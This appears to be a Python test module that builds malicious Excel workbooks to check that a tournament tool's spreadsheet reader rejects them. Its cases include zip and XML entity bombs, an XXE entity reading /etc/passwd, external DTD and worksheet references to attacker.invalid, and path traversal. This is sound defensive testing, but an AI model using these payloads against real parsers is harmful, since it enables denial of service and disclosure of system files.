"""Workbooks made to hurt whoever opens them: python -m tests.hostile.attacks reads each and tells what came of it.

Each is a round's sheet in which something was planted. They are made one at a time, for together they are large.
"""

import copy
import io
import json
import random
import signal
import sys
import zipfile
from collections.abc import Callable

from tests.errors.workbooks import repacked, workbook
from tests.hostile.worker import PATIENCE, forget_memory, limit_memory, memory, reading_only, watch
from tourgen.sheets import read_roster, read_round

ROWS = "番号1 | 選手1 | 結果1 | 番号2\n1 | 青木 | ○ | 2"
BOOK = workbook([{"name": "結果", "rows": ROWS}])
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
BOOK_XML = "xl/workbook.xml"
RELS = "xl/_rels/workbook.xml.rels"
MIB = 2**20
ACCENTS = ("\u0301" * 45_000 + "\u0316" * 45_000).encode()  # each pair of these wants to change places


def planted(part: str, before: bytes, what: bytes, store: bool = False) -> bytes:
    """The workbook with something put in before the last occurrence of a tag."""

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        at = data.rindex(before)
        return data[:at] + what + data[at:]

    book = repacked(BOOK, change)
    return stored(book) if store else book


def stored(book: bytes) -> bytes:
    """Packed without packing, so that the ratio says nothing."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return stream.getvalue()


def with_part(name: str, data: bytes, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO(BOOK)
    with zipfile.ZipFile(stream, "a", packing) as archive:
        archive.writestr(name, data)
    return stream.getvalue()


def row(cells: bytes) -> bytes:
    return b"<row>" + cells + b"</row>"


def noise(size: int) -> bytes:
    """Letters that pack badly."""
    return random.Random(1).randbytes(size // 2).hex().encode()


def overlapping() -> bytes:
    """Nine hundred entries of the index that all are the same ten megabytes."""
    stream = io.BytesIO(BOOK)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/x.xml", bytes(10 * MIB))
        last = archive.filelist[-1]
        for number in range(900):
            again = copy.copy(last)
            again.filename = f"xl/worksheets/{number}.xml"
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return stream.getvalue()


def nested_bombs() -> bytes:
    """An archive of archives of archives; the innermost would be large."""
    data = bytes(8 * MIB)
    for depth in range(4):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"{depth}-{number}.zip", data)
        data = stream.getvalue()
    return data


def laughs(levels: int = 12) -> bytes:
    """Each entity ten of the one before."""
    lines = [b'<!ENTITY e0 "haha">']
    lines += [b'<!ENTITY e%d "%s">' % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, levels)]
    return b"<!DOCTYPE x [" + b"".join(lines) + b"]>"


def declared(part: str, declaration: bytes) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"?>", b"?>" + declaration, 1) if name == part else data

    return repacked(BOOK, change)


def renamed_in(part: str, old: bytes, new: bytes) -> bytes:
    return repacked(BOOK, lambda name, data: data.replace(old, new) if name == part else data)


def in_header(text: bytes) -> bytes:
    """The workbook with one more cell beside its headers."""
    return _with_text(BOOK, b'r="J1"', text)


def titled(text: bytes) -> bytes:
    """The workbook with a text in the row above its table."""
    return _with_text(workbook([{"name": "結果", "rows": f"大会\n{ROWS}"}]), b'r="J1"', text)


def _with_text(book: bytes, place: bytes, text: bytes) -> bytes:
    cell = b'<c %s t="inlineStr"><is><t>%s</t></is></c></row>' % (place, text)
    return repacked(book, lambda name, data: data.replace(b"</row>", cell, 1) if name == SHEET else data)


def many_sheets() -> bytes:
    """Nine hundred worksheets with one value each, rather far down."""
    cell = row(b'<c r="T19999"><v>1</v></c>')
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
        % cell
    )
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="x%d"/>' % (n, n + 10, n) for n in range(900))
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    rels = b"".join(
        b'<Relationship Id="x%d" Type="%s" Target="worksheets/x%d.xml"/>' % (n, kind, n) for n in range(900)
    )

    def change(name: str, data: bytes) -> bytes:
        if name == BOOK_XML:
            return data.replace(b"</sheets>", sheets + b"</sheets>")
        return data.replace(b"</Relationships>", rels + b"</Relationships>") if name == RELS else data

    stream = io.BytesIO(repacked(BOOK, change))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(900):
            archive.writestr(f"xl/worksheets/x{number}.xml", sheet)
    return stream.getvalue()


def one_text_everywhere(value: bytes = b"v") -> bytes:
    """A text of 150 KB that 40,000 cells show; of another prefix than people's sheets have, if need be."""
    text = b"<si><t>" + noise(150_000) + b"</t></si>"

    def change(name: str, data: bytes) -> bytes:
        if name == STRINGS:
            at = data.index(b"<si>")
            return data[:at] + text + data[at:]
        if name == SHEET:
            cell = b'<c t="s"><%b>0</%b></c>' % (value, value)
            cells = b"".join(row(cell * 20) for _ in range(2_000))
            return data.replace(b"</sheetData>", cells + b"</sheetData>")
        return data

    return repacked(BOOK, change)


def two_of_one_name() -> bytes:
    """The worksheet that is looked at and the one that is read might be two."""
    far = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1048576">'
    far += b'<c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    twin = b'<sheet name="%s" sheetId="99" r:id="far"/>' % "結果".encode()

    def change(name: str, data: bytes) -> bytes:
        if name == BOOK_XML:
            return data.replace(b"<sheets>", b"<sheets>" + twin)
        relation = b'<Relationship Id="far" Type="%s" Target="worksheets/far.xml"/></Relationships>' % kind
        return data.replace(b"</Relationships>", relation) if name == RELS else data

    stream = io.BytesIO(repacked(BOOK, change))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("xl/worksheets/far.xml", far)
    return stream.getvalue()


def second_reader(more: bytes) -> bytes:
    """An error that only the slow reader knows, and something beside it."""
    return planted(SHEET, b"</sheetData>", row(b'<c r="J5" t="e"><v>#SPILL!</v></c>') + more)


FAR, LARGE, BROKEN, FINE = "cell-too-far", "workbook-too-large", "file-unreadable", ""
ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing planted": (lambda: BOOK, FINE),
    "a value in the farthest cell": (
        lambda: planted(SHEET, b"</sheetData>", row(b'<c r="XFD1048576"><v>1</v></c>')),
        FAR,
    ),
    "a cell that says two places": (
        lambda: planted(SHEET, b"</sheetData>", row(b'<c r="A9" r="XFD1048576"><v>1</v></c>')),
        BROKEN,
    ),
    **{
        f"a farthest cell called {name.decode()!r}": (
            lambda name=name: planted(  # type: ignore[misc]
                SHEET, b"</sheetData>", row(b'<%b r="XFD1048576"><v>1</v></%b>' % (name, name))
            ),
            found,
        )
        for name, found in {
            b":c": FAR,
            b"x:c": FAR,
            b"a/b:c": BROKEN,
            b"a\x0bb:c": BROKEN,
            b"a\x0cb:c": BROKEN,
            b'a">":c': BROKEN,
        }.items()
    },
    "a cell without a place in a row that is far away": (
        lambda: planted(
            SHEET,
            b"</sheetData>",
            b'<row r="400000000"><c r="A9"><v>1</v></c><c><v>9</v></c></row>',
        ),
        FAR,
    ),
    "a cell without a place in a row behind one that is far away": (
        lambda: planted(
            SHEET, b"</sheetData>", b'<row r="90000"><c r="A9"><v>1</v></c></row><row><c><v>9</v></c></row>'
        ),
        FAR,
    ),
    "values far apart": (
        lambda: planted(SHEET, b"</sheetData>", row(b'<c r="GR3"/><c r="GR20000"><v>1</v></c>')),
        LARGE,
    ),
    "a formula in the farthest cell": (
        lambda: planted(SHEET, b"</sheetData>", row(b'<c r="XFD1048576"><f>1</f></c>')),
        FAR,
    ),
    "a blank farthest cell": (
        lambda: planted(SHEET, b"</sheetData>", row(b'<c r="XFD1048576" s="0"/>')),
        FINE,
    ),
    "a blank farthest cell, read slowly": (
        lambda: second_reader(row(b'<c r="XFD1048576" s="0"/>')),
        FINE,
    ),
    "a worksheet of the same name": (two_of_one_name, BROKEN),
    "everything merged": (
        lambda: planted(
            SHEET,
            b"<pageMargins" if b"<pageMargins" in BOOK else b"</worksheet>",
            b'<mergeCells count="1"><mergeCell ref="F1:XFD1048576"/></mergeCells>',
        ),
        FINE,
    ),
    "nine hundred worksheets": (many_sheets, LARGE),
    "a bomb of 40 MiB": (lambda: planted(SHEET, b"</worksheet>", b" " * (40 * MIB)), LARGE),
    "a bomb within the size": (lambda: planted(SHEET, b"</worksheet>", b" " * (20 * MIB)), LARGE),
    "a bomb of overlapping parts": (overlapping, LARGE),
    "a workbook of 20 MiB": (lambda: with_part("xl/media/x.png", noise(40 * MIB), zipfile.ZIP_STORED), LARGE),
    "an archive in the archive": (lambda: with_part("xl/embeddings/x.zip", nested_bombs()), BROKEN),
    "an archive that is called a worksheet": (lambda: with_part("xl/worksheets/x.xml", nested_bombs()), FINE),
    "an archive instead of a workbook": (nested_bombs, BROKEN),
    **{
        f"an entity bomb in {part}": (lambda part=part: declared(part, laughs()), BROKEN)  # type: ignore[misc]
        for part in (SHEET, STRINGS, BOOK_XML, RELS, "[Content_Types].xml", "docProps/core.xml")
    },
    "one huge entity, often": (
        lambda: declared(STRINGS, b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>'),
        BROKEN,
    ),
    "an entity that is a file": (
        lambda: declared(STRINGS, b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        BROKEN,
    ),
    "a declaration from another host": (
        lambda: declared(SHEET, b'<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">'),
        BROKEN,
    ),
    "a worksheet on another host": (
        lambda: renamed_in(
            RELS,
            b'Target="worksheets/sheet1.xml"',
            b'Target="http://attacker.invalid/" TargetMode="External"',
        ),
        BROKEN,
    ),
    "a worksheet in another folder": (
        lambda: renamed_in(RELS, b"worksheets/sheet1.xml", b"../../../../etc/passwd"),
        BROKEN,
    ),
    "links to other workbooks": (
        lambda: planted(
            SHEET,
            b"</sheetData>",
            row(b"<c r=\"J5\"><f>'[http://attacker.invalid/x.xlsx]S'!A1</f><v>3</v></c>"),
        ),
        FINE,
    ),
    "a million elements within each other": (
        lambda: planted(SHEET, b"</sheetData>", b"<a>" * 10**6 + b"</a>" * 10**6, store=True),
        BROKEN,
    ),
    "a million elements in one text": (
        lambda: planted(
            STRINGS, b"</sst>", b"<si><rPh sb='0' eb='1'/>" + b"<a/>" * 10**6 + b"</si>", store=True
        ),
        BROKEN,
    ),
    "more texts than cells are allowed": (
        lambda: planted(STRINGS, b"</sst>", b"<si/>" * 410_000, store=True),
        LARGE,
    ),
    "a million attributes": (
        lambda: planted(
            SHEET,
            b"</sheetData>",
            b"<c " + b" ".join(b"a%d=''" % n for n in range(10**6)) + b"/>",
            store=True,
        ),
        BROKEN,
    ),
    "one text of 15 MiB": (
        lambda: planted(
            SHEET,
            b"</sheetData>",
            row(b'<c t="inlineStr"><is><t>' + b"x" * (15 * MIB) + b"</t></is></c>"),
            store=True,
        ),
        BROKEN,
    ),
    "a text that is all >": (
        lambda: planted(
            STRINGS,
            b"</sst>",
            b"".join(b"<si><t>" + b">" * 199_000 + b"</t></si>" for _ in range(6)),
            store=True,
        ),
        FINE,
    ),
    "brackets in a header": (lambda: in_header(b"(" * 190_000), FINE),
    "accents upon accents in a header": (lambda: in_header("e\u0301\u0316".encode() + ACCENTS), FINE),
    "accents upon accents above the table": (lambda: titled(b"e" + ACCENTS), FINE),
    "accents upon accents in the name of a worksheet": (
        lambda: renamed_in(BOOK_XML, "結果".encode(), b"e" + ACCENTS),
        FINE,
    ),
    "a reading that begins at a number of 5,000 digits": (
        lambda: planted(STRINGS, b"</sst>", b'<si><t>x</t><rPh sb="0" eb="%s"/></si>' % (b"9" * 5_000)),
        FINE,
    ),
    "readings that go back to the beginning": (
        lambda: planted(
            STRINGS,
            b"</sst>",
            b"<si><t>" + b"A" * 100_000 + b"</t>" + b'<rPh sb="99999" eb="1"/>' * 5_000 + b"</si>",
            store=True,
        ),
        FINE,
    ),
    "a part kept as a tree, of more than 1 MiB": (
        lambda: planted(BOOK_XML, b"</workbook>", b"<a/>" * 300_000, store=True),
        LARGE,
    ),
    "one long text in many cells": (one_text_everywhere, LARGE),
    "one long text in many cells, with a prefix": (lambda: one_text_everywhere(b"x:v"), LARGE),
    "a count of four billion texts": (
        lambda: renamed_in(STRINGS, b'uniqueCount="', b'uniqueCount="4294967295" x="'),
        BROKEN,
    ),
    "a full worksheet": (
        lambda: planted(
            SHEET, b"</sheetData>", b"".join(row(b"<c><v>1</v></c>" * 20) for _ in range(19_990)), store=True
        ),
        FINE,
    ),
    "a full worksheet, read slowly": (
        lambda: stored(second_reader(b"".join(row(b"<c><v>1</v></c>" * 20) for _ in range(4_000)))),
        FINE,
    ),
}


def main(names: list[str]) -> None:
    """One line of JSON for each: its name, the codes of its problems, and the most memory so far."""
    limit_memory()
    sys.addaudithook(watch)
    for name in names or ATTACKS:
        make, _ = ATTACKS[name]
        data = make()
        forget_memory()
        signal.setitimer(signal.ITIMER_PROF, PATIENCE)
        with reading_only():
            _, problems = read_round(data, "open-r1.xlsx")
            _, of_roster, *_ = read_roster(data, "roster.xlsx", [("open", "無差別の部")])
        signal.setitimer(signal.ITIMER_PROF, 0)
        said = [problem.text(language) for problem in (*problems, *of_roster) for language in ("ja", "en")]
        codes = [problem.code for problem in problems]
        print(
            json.dumps({"name": name, "codes": codes, "MiB": memory(), "said": len(said)}),
            flush=True,
        )


if __name__ == "__main__":
    main(sys.argv[1:])
